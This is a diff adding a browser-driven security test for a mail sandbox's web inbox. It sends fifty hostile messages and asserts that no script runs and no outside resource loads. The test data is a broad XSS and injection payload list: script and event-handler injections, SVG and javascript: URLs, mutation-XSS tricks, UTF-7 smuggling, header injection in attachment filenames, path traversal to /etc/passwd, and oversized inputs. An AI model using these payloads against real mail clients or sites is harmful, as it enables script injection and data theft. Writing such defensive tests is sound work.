@@ -1,0 +1,187 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { setTimeout } from 'node:timers/promises'
+import { CHROMIUM, chromiumMissing, size } from '@postmark-smtp/testing'
+import { createTransport } from 'nodemailer'
+import { type Browser, chromium, type Frame, type Page } from 'playwright-core'
+import { afterAll, beforeAll, expect, it } from 'vitest'
+import { type Sandbox, startSandbox } from '../../sandbox.js'
+
+const missing = chromiumMissing()
+const skipped = missing !== undefined && process.env.REQUIRE_REAL_PARTS !== '1'
+if (skipped) console.warn(`Skipped: ${missing}`)
+
+/** The host that the hostile mails call, and how often somebody came. */
+let visits = 0
+const canary = createServer((_request, response) => response.end('console.log(/pwned/)'))
+canary.on('connection', () => {
+  visits += 1
+})
+let away: string
+let sandbox: Sandbox
+let browser: Browser
+beforeAll(async () => {
+  if (skipped) return
+  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve))
+  away = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`
+  sandbox = await startSandbox()
+  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] })
+})
+afterAll(async () => {
+  await browser?.close()
+  await sandbox?.close()
+  canary.close()
+})
+
+const RUN = 'globalThis.pwned=true;console.log(/pwned/)'
+const b64 = (text: string) => Buffer.from(text).toString('base64')
+const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`
+
+/** HTML parts; `away` is the canary. */
+const markup = (away: string): readonly string[] => [
+  `<script>${RUN}</script>`,
+  `<script src="${away}/a.js"></script>`,
+  `<script type="module">import '${away}/a.js'</script>`,
+  `<meta http-equiv="refresh" content="0;url=${away}/refresh">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${RUN}</script>`,
+  `<style>@import url(${away}/a.css); body { background: url(${away}/bg.png) }</style>`,
+  `<link rel="stylesheet" href="${away}/a.css"><link rel="preload" as="script" href="${away}/b.js"><link rel="prefetch" href="${away}/c">`,
+  `<link rel="dns-prefetch" href="${away}"><link rel="preconnect" href="${away}"><link rel="icon" href="${away}/i.ico"><link rel="manifest" href="${away}/m">`,
+  `<style>@font-face { font-family: x; src: url(${away}/x.woff) } p { font-family: x }</style><p>x</p>`,
+  `<img src="${away}/pixel.gif" srcset="${away}/2.gif 2x"><picture><source srcset="${away}/3.gif"><img></picture>`,
+  `<img src=x onerror="${RUN}"><body onload="${RUN}"><p onmouseover="${RUN}">x</p>`,
+  SVG,
+  `<svg><image href="${away}/a.png"/><use href="${away}/a.svg#x"/><style>@import '${away}/b.css'</style><set attributeName="href" to="javascript:${RUN}"/></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/><foreignObject><script>${RUN}</script></foreignObject></svg>`,
+  `<img src="data:image/svg+xml;base64,${b64(SVG)}">`,
+  `<iframe src="${away}/frame"></iframe><iframe srcdoc="<script>top.pwned=true</script>"></iframe>`,
+  `<iframe src="javascript:${RUN}"></iframe><iframe src="data:text/html;base64,${b64(`<script>${RUN}</script>`)}"></iframe>`,
+  `<object data="${away}/o"></object><embed src="${away}/e"><applet code="${away}/p"></applet>`,
+  `<object data="data:text/html;base64,${b64(`<script>${RUN}</script>`)}"></object>`,
+  `<a id="hit" href="javascript:${RUN}">x</a>`,
+  `<a id="hit" href="${away}/click">x</a>`,
+  `<a id="hit" href="${away}/top" target="_top" ping="${away}/ping">x</a>`,
+  `<a id="hit" href="data:text/html;base64,${b64(`<script>${RUN}</script>`)}" target="_self">x</a>`,
+  `<base href="${away}/"><img src="a.png"><a id="hit" href="b">x</a>`,
+  `<form action="${away}/form" method="post"><input name="a" value="b" autofocus onfocus="${RUN}"><button id="hit">x</button></form>`,
+  `<form action="/clear" method="post" target="_top"><button id="hit">x</button></form>`,
+  `<button id="hit" formaction="javascript:${RUN}">x</button><isindex action="${away}/i">`,
+  `<video src="${away}/v.mp4" poster="${away}/p.png" autoplay onerror="${RUN}"></video><audio src="${away}/a.mp3" autoplay></audio><track src="${away}/t">`,
+  `<details open ontoggle="${RUN}"><summary>x</summary></details><marquee onstart="${RUN}">x</marquee>`,
+  `<p style="background:url(${away}/a);list-style:url('${away}/b');content:url(${away}/c);behavior:url(${away}/d)">x</p>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><template><script>${RUN}</script></template>`,
+  `</iframe></main></body></html><script>${RUN}</script><textarea></textarea><script>${RUN}</script>`,
+  `<frameset onload="${RUN}"><frame src="${away}/f"></frameset>`,
+  `<table background="${away}/t.png"><tr><td background="${away}/u.png"></table><body background="${away}/v.png">`,
+  '<div>'.repeat(100_000),
+  `<${'a'.repeat(1_000_000)} onclick="${RUN}">${'&'.repeat(200_000)}`,
+  `<p>${'x'.repeat(6_000_000)}</p>`,
+  `\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt><script\u0000>${RUN}</script>`,
+]
+
+const html = (body: string, header = '') =>
+  `${header}Content-Type: text/html; charset=utf-8\r\n\r\n${body.replace(/.{900}/g, '$&\r\n')}`
+const evil = `"><script>${RUN}</script><img src=x onerror="${RUN}">`
+const multipart = 'Content-Type: multipart/mixed; boundary=b\r\n\r\n'
+const part = (header: string, body = 'x') => `--b\r\n${header}\r\n\r\n${body}\r\n`
+
+/** Whole messages. */
+const sources = (away: string): readonly string[] => [
+  `Subject: ${evil}\r\nFrom: ${evil} <a@example.com>\r\nTo: '${evil}' <b@example.com>\r\nX-${evil}: ${evil}\r\n\r\n${evil}`,
+  `X-PM-Tag: ${evil}\r\nX-PM-Metadata-a: ${evil}\r\nX-PM-Metadata-${evil}: x\r\nX-PM-Message-Stream: ${evil}\r\nX-PM-TrackLinks: ${evil}\r\n\r\nhttp://x/${evil} ${away}/${evil}`,
+  `Subject: \u202Egnp.exe\u0007\u0000\u001b[31m\r\n\r\n\u0000\u202Ehello\u0007`,
+  `X-Long: ${'y'.repeat(1_000_000)}\r\nSubject: ${'z'.repeat(1_000_000)}\r\n\r\nx`,
+  `${'X-Many: 1\r\n'.repeat(50_000)}\r\nx`,
+  `${multipart}${Array.from({ length: 1000 }, (_, i) => part(`Content-Disposition: attachment; filename="${i}.txt"`)).join('')}--b--`,
+  `${multipart}${['a"b.html', "a'b.svg", 'a\\"\\r\\nSet-Cookie: a=b.html', '\u202Egnp.exe', `${evil}.html`, '../../../etc/passwd', 'x'.repeat(10_000)].map((name) => part(`Content-Type: text/html\r\nContent-Disposition: attachment; filename="${name}"`, `<script>${RUN}</script>`)).join('')}--b--`,
+  `Content-Type: multipart/related; boundary=b\r\n\r\n${part('Content-Type: text/html', '<img src="cid:a"><object data="cid:b"></object><iframe src="cid:b"></iframe><img src="cid:__proto__">')}${part('Content-Type: image/svg+xml\r\nContent-ID: <a>', SVG)}${part('Content-Type: text/html\r\nContent-ID: <b>', `<script>${RUN}</script>`)}--b--`,
+  `${Array.from({ length: 2000 }, (_, i) => `Content-Type: multipart/mixed; boundary=b${i}\r\n\r\n--b${i}\r\n`).join('')}Content-Type: text/html\r\n\r\n<script>${RUN}</script>`,
+  `Content-Type: multipart/mixed; boundary="\r\nContent-Transfer-Encoding: base64\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+]
+
+async function send(raw: string): Promise<string> {
+  const { host, port, token: user } = sandbox
+  const transport = createTransport({ host, port, ignoreTLS: true, auth: { user, pass: user } })
+  await transport.sendMail({
+    envelope: { from: 'a@example.com', to: ['b@example.com'] },
+    raw: Buffer.from(raw),
+  })
+  transport.close()
+  return `mails/${sandbox.outbox.at(-1)?.messageId}`
+}
+
+const VIEWS = ['', '/html', '?part=text', '?part=headers', '?part=source', '?part=delivered']
+
+/** Whether a script of the mail ran in any frame of a page. */
+async function ran(page: Page): Promise<boolean> {
+  return (await Promise.all(page.frames().map(ranIn))).includes(true)
+}
+
+/** A frame that may not load at all never answers; one that a click takes away from the mail is asked again. */
+function ranIn(frame: Frame): Promise<boolean> {
+  const answer = frame
+    .evaluate<boolean>('"pwned" in globalThis')
+    .catch(() => !frame.isDetached() && ranIn(frame))
+  return Promise.race([answer, setTimeout(1000, false, { ref: false })])
+}
+
+it.skipIf(skipped)(
+  'renders 50 hostile mails: no script runs, nothing is asked for elsewhere',
+  { timeout: 300_000 },
+  async () => {
+    const context = await browser.newContext({ viewport: { width: 1000, height: 700 } })
+    const page = await context.newPage()
+    const elsewhere: string[] = []
+    const dialogs: string[] = []
+    const said: string[] = []
+    const isElsewhere = (url: string) => !url.startsWith(sandbox.inboxUrl) && !/^(?:data|blob):/.test(url)
+    context.on('response', (response) => {
+      if (isElsewhere(response.url())) elsewhere.push(response.url())
+    })
+    // What a policy stops is told as a request that failed.
+    context.on('requestfailed', (request) => {
+      const { errorText } = request.failure() ?? {}
+      if (isElsewhere(request.url()) && errorText !== 'csp' && errorText !== 'origin')
+        elsewhere.push(`${request.url()} ${errorText}`)
+    })
+    context.on('console', (line) => {
+      if (line.type() === 'log') said.push(line.text())
+    })
+    context.on('dialog', (dialog) => {
+      dialogs.push(dialog.message())
+      void dialog.dismiss()
+    })
+    const bodies = markup(away).map((body) => html(body))
+    const mails = [...bodies, ...sources(away)]
+    expect(mails).toHaveLength(50)
+    // Every tenth in `npm test`.
+    const chosen = [...mails.entries()].filter(([index]) => index % (50 / size(50)) === 2 % (50 / size(50)))
+
+    for (const [index, raw] of chosen) {
+      const path = await send(raw)
+      for (const view of index < bodies.length ? ['', '/html', '?part=source'] : VIEWS) {
+        const response = await page.goto(sandbox.inboxUrl + path + view)
+        expect([index, view, response?.status()]).toEqual([index, view, 200])
+        expect([index, view, await ran(page)]).toEqual([index, view, false])
+        if (view === '' && raw.includes('id="hit"')) {
+          await page.frameLocator('iframe').locator('#hit').click()
+          expect([index, await ran(page)]).toEqual([index, false])
+          expect(page.url()).toBe(sandbox.inboxUrl + path)
+        }
+      }
+    }
+    await page.goto(sandbox.inboxUrl)
+    expect(await page.locator('.mails tbody tr').count()).toBe(chosen.length)
+    expect(await ran(page)).toBe(false)
+    expect({ elsewhere, dialogs, said, visits, pages: context.pages().length }).toEqual({
+      elsewhere: [],
+      dialogs: [],
+      said: [],
+      visits: 0,
+      pages: 1,
+    })
+    await context.close()
+  },
+)
